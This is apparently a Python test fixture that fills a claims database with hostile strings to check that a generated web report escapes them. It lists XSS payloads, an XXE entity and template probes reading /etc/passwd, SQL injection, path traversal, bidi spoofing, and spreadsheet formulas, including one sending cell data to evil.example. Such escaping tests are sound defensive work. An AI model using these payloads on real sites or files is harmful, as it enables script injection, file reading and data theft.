"""What a page of the web may try in a name, a title, a number's words or an address; none may run anywhere, none may be lost."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb

from claims.report import ReportPaths, write_report
from claims.store.store import Store
from tests.report.build import Told, night

MARKUP = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><img src=x onerror=window.pwned=1>",
    "<img src=x onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<object data=data:text/html,<script>window.pwned=1</script>>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>press</button>",
    "<details open ontoggle=window.pwned=1>",
    "<a href=javascript:window.pwned=1>press</a>",
    '" onmouseover="window.pwned=1" x="',
    "' onfocus='window.pwned=1' autofocus tabindex=1 x='",
    "`onclick=window.pwned=1`",
    "--><script>window.pwned=1</script><!--",
    "<!--",
    "<![CDATA[<b>bold</b>]]>",
    "]]><b>bold</b>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?php echo 1 ?>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&amp;&nbsp;&copy;",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# note #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "＜script＞window.pwned=1＜/script＞",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","press")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    " =1+1",
    '"=1+1',
    '";=1+1;"',
    "a;=1+1;b",
    "a,=1+1,b",
    "'=1+1",
)
MARKDOWN = (
    "[press](javascript:window.pwned=1)",
    "![picture](http://evil.example/x.png)",
    "<http://evil.example>",
    "http://evil.example www.evil.example",
    "# Heading",
    "* item _b_ **c** ~~d~~ `e`",
    "| a | b |",
    "@everyone #channel !here",
    "[x]: http://evil.example 'title'",
    "---",
)
SIGNS = (
    "exe\u202egpj.scr",
    "\u2067isolated\u2066 \u2069\u2069 end",
    "zero\u200bwidth\u200djoiner\ufeffmark",
    "esc\x1b[2J\x1b]0;title\x07",
    "bell\x07 back\x08space",
    "line\u2028separator\u2029paragraph",
    "Z\u0351\u036b\u0343a\u0334\u0321l\u034eg\u0328o",
    "👩‍👩‍👧‍👦 🏴‍☠️ ﷽",
    "../../../etc/passwd",
    "C:\\Windows\\system32",
    "'; DROP TABLE claims; --",
    "null None NaN undefined true",
    "مرحبا <b>hello</b> ١٢٣",
)
TEXTS = (*MARKUP, *FORMULAS, *MARKDOWN, *SIGNS)
ADDRESSES = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "java\tscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.pwned=1</script>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/path",
    'https://a.example/"onmouseover="window.pwned=1',
    "https://a.example/'><script>window.pwned=1</script>",
    "https://a.example/a b",
    "https://a.example/a)b](c",
    "https://a.example/\u202ecod.exe",
    "https://a.example/?q=1&lt=<b>&copy=1",
    "https://[not-an-address/x",
)


BEFORE = "There were "


def hostile(folder: Path) -> ReportPaths:
    """A finding for each: a text as outlet, title, words of the number, speaker, place, quantity and explanation; an address as the page."""
    with Store(folder / "data") as store:
        night(store, [Told("Harbour Post", 2500), Told("Plain Paper", 3900)])
        con = store.con
        [(finding, claim, article, cluster)] = con.execute(
            """SELECT finding_id, claim_a, article_id, f.cluster_id FROM store.findings f JOIN store.claims c ON c.claim_id = claim_a
            JOIN store.articles USING (article_id) WHERE outlet = 'Harbour Post'"""
        ).fetchall()
        for number, text in enumerate((*TEXTS, *ADDRESSES)):
            url = text if text in ADDRESSES else f"https://n{number}.example/{text}"
            key = f"{number:04x}"
            sentence = f"{BEFORE}{text} on site. {text}"
            _copy(con, "articles", {"article_id": article}, {
                "article_id": f"a{key}", "origin_id": f"a{key}", "outlet": text, "title": text, "url": url, "text": sentence,
                "archive": f"{text}.warc.gz#{text}",
            })  # fmt: skip
            _copy(con, "clusters", {"cluster_id": cluster}, {"cluster_id": f"k{key}", "label": text, "place": text})
            _copy(con, "claims", {"claim_id": claim}, {
                "claim_id": f"c{key}", "article_id": f"a{key}", "cluster_id": f"k{key}", "quote": text, "start_at": len(BEFORE),
                "end_at": len(BEFORE) + len(text), "sentence": sentence, "attributed_to": text, "subject": text, "place": text,
            })  # fmt: skip
            _copy(con, "findings", {"finding_id": finding}, {
                "finding_id": f"f{key}", "claim_a": f"c{key}", "cluster_id": f"k{key}", "explanation": text, "note": text, "remembered": text,
                "status": "confirmed", "kind": ["contradiction", "stealth_edit", "undetermined"][number % 3],
                "slots": json.dumps({"place": [text, text, text]}),
            })  # fmt: skip
        con.execute("UPDATE store.runs SET errors = ?, skipped = ?", [
            json.dumps([{"source": text, "url": text, "reason": text} for text in (*TEXTS, *ADDRESSES)]), json.dumps(dict.fromkeys(TEXTS, 1)),
        ])  # fmt: skip
        return write_report(con, folder / "report")


def _copy(con: duckdb.DuckDBPyConnection, table: str, of: dict[str, str], changed: dict[str, object]) -> None:
    """Adds a row like another but for these columns."""
    [(key, value)] = of.items()
    columns = ", ".join(f"${name} AS {name}" for name in changed)
    con.execute(
        f"INSERT INTO store.{table} BY NAME SELECT s.* REPLACE ({columns}) FROM store.{table} s WHERE {key} = $of",
        changed | {"of": value},
    )
